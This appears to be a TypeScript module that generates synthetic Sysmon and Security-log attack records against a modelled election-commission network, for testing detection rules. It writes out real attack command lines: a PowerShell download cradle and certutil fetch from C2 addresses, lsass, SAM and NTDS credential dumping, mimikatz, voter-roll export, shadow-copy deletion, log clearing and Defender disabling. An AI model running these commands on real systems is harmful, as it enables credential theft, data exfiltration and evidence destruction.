/**
 * Attack records (about 0.1 % of the corpus), drawn from techniques seen against election bodies and other
 * public-sector networks: credential theft from lsass, web shells on Exchange and the register front end,
 * bulk export of the electors table, staging and exfiltration, persistence, and covering tracks. Each is
 * written the way Sysmon or the Security log records it, so the SigmaHQ rules that target it fire.
 */
import type { Ctx, Integrity, PeInfo } from './catalog.js';
import { PROCESS_BY_KEY } from './processes.js';
import type { Account, Estate, Host } from './estate.js';
import { DNS_DOMAIN, SYSTEM } from './estate.js';
import { hashString } from './prng.js';
import type { ProcSpec, RecordBody } from './records.js';
import {
  callTrace,
  securityProcessCreate,
  sysmonDnsQuery,
  sysmonFileCreate,
  sysmonNetworkConnect,
  sysmonProcessAccess,
  sysmonProcessCreate,
  sysmonRegistry,
} from './records.js';
import { spec } from './benign.js';

export interface AttackTechnique {
  /** Short stable name, used in tests and in the corpus description. */
  readonly name: string;
  /** MITRE ATT&CK technique. */
  readonly attack: string;
  /** Which host of the estate it happens on. */
  readonly host: (estate: Estate, c: Pick<Ctx, 'rng'>) => Host;
  readonly build: (c: Ctx, timeUs: number) => RecordBody;
}

const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';
const V = '10.0.20348.2849 (WinBuild.160101.0800)';
const C2 = ['185.220.101.47', '45.133.216.219', '193.42.33.14', '91.92.251.103', '5.181.80.120'];

function winPe(originalFileName: string, description: string): PeInfo {
  return { fileVersion: V, description, product: WINDOWS, company: MS, originalFileName };
}

function proc(image: string, pe: PeInfo, cmd: string, account: Account, integrity: Integrity): ProcSpec {
  return { image, pe, cmd, account, integrity };
}

function fromCatalogue(key: string, c: Ctx): ProcSpec {
  const profile = PROCESS_BY_KEY.get(key);
  if (profile === undefined) throw new Error(`${key} missing from catalogue`);
  return spec(profile, c);
}

const anyWorkstation = (e: Estate, c: Pick<Ctx, 'rng'>): Host => c.rng.pick(e.workstations);
const server =
  (name: string) =>
  (e: Estate): Host =>
    e.servers.find((s) => s.name === name) ?? (e.servers[0] as Host);
const dc = (e: Estate, c: Pick<Ctx, 'rng'>): Host => e.servers[c.rng.int(2)] as Host;
const anywhere = (e: Estate, c: Pick<Ctx, 'rng'>): Host =>
  c.rng.chance(0.5) ? c.rng.pick(e.servers) : c.rng.pick(e.workstations);
const webFacing = (e: Estate, c: Pick<Ctx, 'rng'>): Host =>
  server(c.rng.pick(['EC-EXCH01', 'EC-REG-APP01', 'EC-WEB01']))(e);

/** The admin account the intruder holds on this host: the same one for the child and its parent. */
const admin = (c: Ctx): Account =>
  c.user.kind === 'admin'
    ? c.user
    : (c.estate.admins[hashString(c.host.name) % c.estate.admins.length] ?? c.user);
const cmdShell = (account: Account, line = '"C:\\Windows\\system32\\cmd.exe" '): ProcSpec =>
  proc(
    'C:\\Windows\\System32\\cmd.exe',
    winPe('Cmd.Exe', 'Windows Command Processor'),
    line,
    account,
    account === SYSTEM ? 'System' : 'High',
  );
const powershell = (cmd: string, account: Account, integrity: Integrity = 'High'): ProcSpec =>
  proc(
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    winPe('PowerShell.EXE', 'Windows PowerShell'),
    cmd,
    account,
    integrity,
  );

/** UTF-16LE base64, as `powershell -EncodedCommand` takes it. */
function encodeCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** Process creation, as Sysmon 1 on most hosts and Security 4688 on a third of occasions. */
function processCreation(c: Ctx, timeUs: number, child: ProcSpec, parent: ProcSpec): RecordBody {
  return c.rng.chance(0.3)
    ? securityProcessCreate(c, child, parent)
    : sysmonProcessCreate(c, timeUs, child, parent);
}

export const ATTACKS: readonly AttackTechnique[] = [
  {
    name: 'powershell-encoded-download-cradle',
    attack: 'T1059.001',
    host: anyWorkstation,
    build: (c, t) => {
      const script = `IEX (New-Object Net.WebClient).DownloadString('http://${c.rng.pick(C2)}/${c.rng.hex(6)}.ps1')`;
      const parent = c.rng.chance(0.5) ? fromCatalogue('winword', c) : cmdShell(c.user);
      return processCreation(
        c,
        t,
        powershell(`powershell.exe -NoP -NonI -W Hidden -Enc ${encodeCommand(script)}`, c.user, 'Medium'),
        parent,
      );
    },
  },
  {
    name: 'certutil-download',
    attack: 'T1105',
    host: anywhere,
    build: (c, t) => {
      const name = c.rng.pick(['update', 'svc', 'chrome_installer', 'KB5034441']);
      const cmd = `certutil.exe -urlcache -split -f http://${c.rng.pick(C2)}/${name}.exe C:\\Users\\Public\\${name}.exe`;
      return processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\certutil.exe',
          winPe('CertUtil.exe', 'CertUtil.exe'),
          cmd,
          c.user,
          'Medium',
        ),
        cmdShell(c.user),
      );
    },
  },
  {
    name: 'rundll32-comsvcs-minidump-lsass',
    attack: 'T1003.001',
    host: anywhere,
    build: (c, t) => {
      const cmd = `"C:\\Windows\\System32\\rundll32.exe" C:\\windows\\System32\\comsvcs.dll, MiniDump ${c.host.lsassPid} C:\\Windows\\Temp\\${c.rng.hex(6)}.dmp full`;
      return processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\rundll32.exe',
          winPe('RUNDLL32.EXE', 'Windows host process (Rundll32)'),
          cmd,
          admin(c),
          'High',
        ),
        powershell('powershell.exe', admin(c)),
      );
    },
  },
  {
    name: 'rundll32-comsvcs-lsass-access',
    attack: 'T1003.001',
    host: anywhere,
    build: (c, t) => {
      const source = proc(
        'C:\\Windows\\System32\\rundll32.exe',
        winPe('RUNDLL32.EXE', 'Windows host process (Rundll32)'),
        '',
        admin(c),
        'High',
      );
      const target = fromCatalogue('lsass', c);
      return sysmonProcessAccess(
        c,
        t,
        source,
        target,
        '0x1fffff',
        callTrace(c, source.image, [
          'C:\\Windows\\System32\\dbgcore.DLL',
          'C:\\Windows\\System32\\comsvcs.dll',
        ]),
      );
    },
  },
  {
    name: 'procdump-lsass',
    attack: 'T1003.001',
    host: anywhere,
    build: (c, t) => {
      const pe: PeInfo = {
        fileVersion: '11.0',
        description: 'Sysinternals process dump utility',
        product: 'ProcDump',
        company: 'Sysinternals - www.sysinternals.com',
        originalFileName: 'procdump',
      };
      const cmd = `procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\${c.rng.pick(['ls', 'out', 'dbg'])}.dmp`;
      return processCreation(
        c,
        t,
        proc('C:\\Users\\Public\\procdump64.exe', pe, cmd, admin(c), 'High'),
        cmdShell(admin(c)),
      );
    },
  },
  {
    name: 'lsass-dump-file',
    attack: 'T1003.001',
    host: anywhere,
    build: (c, t) =>
      sysmonFileCreate(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\rundll32.exe',
          winPe('RUNDLL32.EXE', 'Windows host process (Rundll32)'),
          '',
          admin(c),
          'High',
        ),
        c.rng.pick([
          'C:\\Windows\\Temp\\lsass.dmp',
          'C:\\Users\\Public\\lsass_250430_031522.dmp',
          'C:\\ProgramData\\lsassdump.dmp',
        ]),
      ),
  },
  {
    name: 'webshell-w3wp-spawns-cmd',
    attack: 'T1505.003',
    host: webFacing,
    build: (c, t) => {
      const w3wp = fromCatalogue('w3wp', c);
      const cmd = c.rng.pick([
        'cmd.exe /c whoami /all',
        'cmd /c "cd /d C:\\inetpub\\wwwroot\\aspnet_client&whoami&ipconfig /all&net group \\"Domain Admins\\" /domain"',
        'cmd.exe /c powershell -ep bypass -c "Get-ADComputer -Filter * | Select Name"',
        'cmd.exe /c tasklist /v',
      ]);
      return processCreation(c, t, cmdShell(w3wp.account, cmd), w3wp);
    },
  },
  {
    name: 'mimikatz',
    attack: 'T1003.001',
    host: (e, c) => (c.rng.chance(0.5) ? dc(e, c) : anyWorkstation(e, c)),
    build: (c, t) => {
      const pe: PeInfo = {
        fileVersion: '2.2.0.0',
        description: 'mimikatz for Windows',
        product: 'mimikatz',
        company: 'gentilkiwi (Benjamin DELPY)',
        originalFileName: 'mimikatz.exe',
      };
      const args = c.rng.pick([
        '"privilege::debug" "sekurlsa::logonpasswords" "exit"',
        `"lsadump::dcsync /domain:${DNS_DOMAIN} /user:krbtgt" "exit"`,
        '"privilege::debug" "token::elevate" "lsadump::sam" "exit"',
        '"sekurlsa::pth /user:adm-j.smith /domain:EC /ntlm:' + c.rng.hex(32) + '"',
      ]);
      return processCreation(
        c,
        t,
        proc(
          `C:\\Users\\${admin(c).name}\\AppData\\Local\\Temp\\m64.exe`,
          pe,
          `m64.exe ${args}`,
          admin(c),
          'High',
        ),
        cmdShell(admin(c)),
      );
    },
  },
  {
    name: 'vssadmin-delete-shadows',
    attack: 'T1490',
    host: (e, c) => (c.rng.chance(0.7) ? c.rng.pick(e.servers) : anyWorkstation(e, c)),
    build: (c, t) =>
      processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\vssadmin.exe',
          winPe('VSSADMIN.EXE', 'Command Line Interface for Microsoft® Volume Shadow Copy Service '),
          c.rng.pick(['vssadmin.exe delete shadows /all /quiet', 'vssadmin  Delete Shadows /All /Quiet']),
          admin(c),
          'High',
        ),
        cmdShell(admin(c)),
      ),
  },
  {
    name: 'bcp-export-electors',
    attack: 'T1005',
    host: server('EC-REG-SQL01'),
    build: (c, t) => {
      const pe: PeInfo = {
        fileVersion: '2019.0170.1000.07',
        description: 'BCP - Bulk Copy Program',
        product: 'Microsoft SQL Server',
        company: MS,
        originalFileName: 'BCP.exe',
      };
      const cmd = `bcp "SELECT * FROM ElectoralRoll.dbo.Electors${c.rng.chance(0.5) ? ' WHERE OptOut = 0' : ''}" queryout C:\\Users\\Public\\${c.rng.pick(['e', 'data', 'x'])}.dat -c -T -S EC-REG-SQL01`;
      return processCreation(
        c,
        t,
        proc(
          'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\bcp.exe',
          pe,
          cmd,
          c.estate.services.sql,
          'High',
        ),
        cmdShell(c.estate.services.sql),
      );
    },
  },
  {
    name: '7zip-password-archive',
    attack: 'T1560.001',
    host: (e, c) => (c.rng.chance(0.6) ? server('EC-FS01')(e) : anyWorkstation(e, c)),
    build: (c, t) => {
      const pe: PeInfo = {
        fileVersion: '24.08',
        description: '7-Zip Console',
        product: '7-Zip',
        company: 'Igor Pavlov',
        originalFileName: '7z.exe',
      };
      const cmd = `"C:\\Program Files\\7-Zip\\7z.exe" a -tzip -p${c.rng.pick(['Elect2025!', 'x7Kq-p0ll', 'infected'])} -mhe=on C:\\ProgramData\\${c.rng.hex(6)}.zip \\\\EC-FS01\\Shares\\${c.rng.pick(['Registration', 'Postal Votes', 'Elections'])}\\*`;
      return processCreation(
        c,
        t,
        proc('C:\\Program Files\\7-Zip\\7z.exe', pe, cmd, admin(c), 'High'),
        cmdShell(admin(c)),
      );
    },
  },
  {
    name: 'schtasks-persistence',
    attack: 'T1053.005',
    host: anywhere,
    build: (c, t) => {
      const cmd = `schtasks.exe /create /sc minute /mo ${c.rng.pick([15, 30, 60])} /tn "${c.rng.pick(['MicrosoftEdgeUpdateTaskMachineUA2', 'OneDrive Reporting Task', 'GoogleUpdateTaskMachineCore'])}" /tr "C:\\Users\\Public\\update.exe" /ru SYSTEM /f`;
      return processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\schtasks.exe',
          winPe('schtasks.exe', 'Task Scheduler Configuration Tool'),
          cmd,
          admin(c),
          'High',
        ),
        cmdShell(admin(c)),
      );
    },
  },
  {
    name: 'run-key-persistence',
    attack: 'T1547.001',
    host: anyWorkstation,
    build: (c, t) =>
      sysmonRegistry(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\reg.exe',
          winPe('reg.exe', 'Registry Console Tool'),
          '',
          c.user,
          'Medium',
        ),
        `HKU\\${c.user.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\${c.rng.pick(['OneDriveUpdate', 'SecurityHealth', 'EdgeUpdate'])}`,
        c.rng.pick([
          'C:\\Users\\Public\\update.exe',
          `C:\\Users\\${c.user.name}\\AppData\\Roaming\\svc\\svchost.exe`,
        ]),
      ),
  },
  {
    name: 'external-ip-lookup',
    attack: 'T1016',
    host: anywhere,
    build: (c, t) =>
      sysmonDnsQuery(
        c,
        t,
        powershell('powershell.exe', c.user, 'Medium'),
        c.rng.pick(['api.ipify.org', 'ifconfig.me', 'ipinfo.io', 'icanhazip.com']),
        `::ffff:${c.rng.pick(C2)};`,
      ),
  },
  {
    name: 'rundll32-outbound-connection',
    attack: 'T1218.011',
    host: anywhere,
    build: (c, t) =>
      sysmonNetworkConnect(c, t, {
        proc: proc(
          'C:\\Windows\\System32\\rundll32.exe',
          winPe('RUNDLL32.EXE', 'Windows host process (Rundll32)'),
          '',
          c.user,
          'Medium',
        ),
        initiated: true,
        protocol: 'tcp',
        sourceIp: c.host.ip,
        sourceHostname: c.host.fqdn,
        sourcePort: c.rng.range(49152, 65535),
        destinationIp: c.rng.pick(C2),
        destinationHostname: '-',
        destinationPort: c.rng.pick([443, 8443, 80]),
      }),
  },
  {
    name: 'ntdsutil-ifm',
    attack: 'T1003.003',
    host: dc,
    build: (c, t) =>
      processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\ntdsutil.exe',
          winPe('ntdsutil.exe', 'NT5DS'),
          `ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\${c.rng.hex(4)}" q q`,
          admin(c),
          'High',
        ),
        cmdShell(admin(c)),
      ),
  },
  {
    name: 'wevtutil-clear-security',
    attack: 'T1070.001',
    host: anywhere,
    build: (c, t) =>
      processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\wevtutil.exe',
          winPe('wevtutil.exe', 'Eventing Command Line Utility'),
          c.rng.pick([
            'wevtutil.exe cl Security',
            'wevtutil cl System',
            'wevtutil.exe cl "Microsoft-Windows-Sysmon/Operational"',
          ]),
          admin(c),
          'High',
        ),
        cmdShell(admin(c)),
      ),
  },
  {
    name: 'net-user-add-admin',
    attack: 'T1136.001',
    host: anywhere,
    build: (c, t) =>
      processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\net.exe',
          winPe('net.exe', 'Net Command'),
          c.rng.pick([
            'net.exe user support_ec Sup9ort!2025 /add',
            'net  localgroup administrators support_ec /add',
            'net user helpdesk$ P@ssw0rd1 /add /domain',
          ]),
          admin(c),
          'High',
        ),
        cmdShell(admin(c)),
      ),
  },
  {
    name: 'defender-disable',
    attack: 'T1562.001',
    host: anywhere,
    build: (c, t) =>
      processCreation(
        c,
        t,
        powershell(
          c.rng.pick([
            'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
            'powershell -c "Add-MpPreference -ExclusionPath C:\\Users\\Public"',
            'powershell.exe Set-MpPreference -DisableIOAVProtection $true',
          ]),
          admin(c),
        ),
        cmdShell(admin(c)),
      ),
  },
  {
    name: 'domain-recon',
    attack: 'T1087.002',
    host: anyWorkstation,
    build: (c, t) => {
      const line = c.rng.pick([
        ['C:\\Windows\\System32\\nltest.exe', 'nltestrk.exe', 'nltest.exe /dclist:ec.local'],
        ['C:\\Windows\\System32\\nltest.exe', 'nltestrk.exe', 'nltest /domain_trusts /all_trusts'],
        ['C:\\Windows\\System32\\net.exe', 'net.exe', 'net group "Domain Admins" /domain'],
        [
          'C:\\Users\\Public\\AdFind.exe',
          'AdFind.exe',
          'AdFind.exe -f "(objectcategory=computer)" -csv name operatingSystem',
        ],
      ] as const);
      return processCreation(
        c,
        t,
        proc(line[0], winPe(line[1], 'Network utility'), line[2], c.user, 'Medium'),
        cmdShell(c.user),
      );
    },
  },
  {
    name: 'reg-save-sam',
    attack: 'T1003.002',
    host: anywhere,
    build: (c, t) =>
      processCreation(
        c,
        t,
        proc(
          'C:\\Windows\\System32\\reg.exe',
          winPe('reg.exe', 'Registry Console Tool'),
          c.rng.pick([
            'reg.exe save hklm\\sam C:\\Windows\\Temp\\sam.save',
            'reg save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save /y',
            'reg.exe save hklm\\security C:\\ProgramData\\sec.hiv',
          ]),
          admin(c),
          'High',
        ),
        cmdShell(admin(c)),
      ),
  },
  {
    name: 'exchange-mailbox-export',
    attack: 'T1114.001',
    host: server('EC-EXCH01'),
    build: (c, t) =>
      processCreation(
        c,
        t,
        powershell(
          `powershell.exe -c "New-MailboxExportRequest -Mailbox ${c.rng.pick(['returning.officer', 'chief.executive', 'elections.team'])} -FilePath \\\\EC-EXCH01\\c$\\inetpub\\wwwroot\\aspnet_client\\${c.rng.hex(4)}.pst"`,
          SYSTEM,
          'System',
        ),
        fromCatalogue('w3wp', c),
      ),
  },
];
